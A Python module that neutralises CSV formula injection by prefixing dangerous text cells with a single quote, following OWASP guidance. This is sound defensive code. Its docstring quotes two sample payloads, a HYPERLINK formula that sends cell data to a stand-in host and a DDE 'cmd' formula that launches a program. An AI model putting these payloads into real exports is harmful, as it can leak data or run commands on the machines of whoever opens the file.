"""CSV cells a spreadsheet can never run: the one guard against CSV (formula) injection.

Firm names come from Trigon and field names from Uku, typed by whoever runs those
accounts, and the office opens the report's CSV in Excel or LibreOffice. A text cell
starting with ``=``, ``+``, ``-`` or ``@`` is read there as a formula
(``=HYPERLINK("http://x"&A1,"a")``, ``@SUM(1+1)*cmd|' /C calc'!A0``), and a leading TAB or
CR lets a formula hide behind whitespace. Every CSV the tool writes passes each row,
header included, through :func:`csv_row`.
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What OWASP's "CSV Injection" page lists as the first characters a spreadsheet acts on."""


def csv_cell(value: object) -> object:
    """``value`` as a cell no spreadsheet evaluates, following OWASP's CSV Injection advice.

    A *text* cell that starts with ``=``, ``+``, ``-``, ``@``, TAB or CR gets a single
    quote in front (``'=HYPERLINK(...)``): spreadsheets show it as the text it is. The
    csv writer then quotes it by the ordinary CSV rules (a separator, a double quote or a
    line break inside makes the whole field quoted, inner quotes doubled), so the prefix
    stays the cell's first character. Numbers are not text and stay numbers: a change of
    ``-3`` is written ``-3`` and sums in the spreadsheet. Anything else (None, an empty
    cell) is written as the csv module writes it.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: Iterable[object]) -> list[object]:
    """One CSV row with every cell through :func:`csv_cell`."""
    return [csv_cell(value) for value in values]
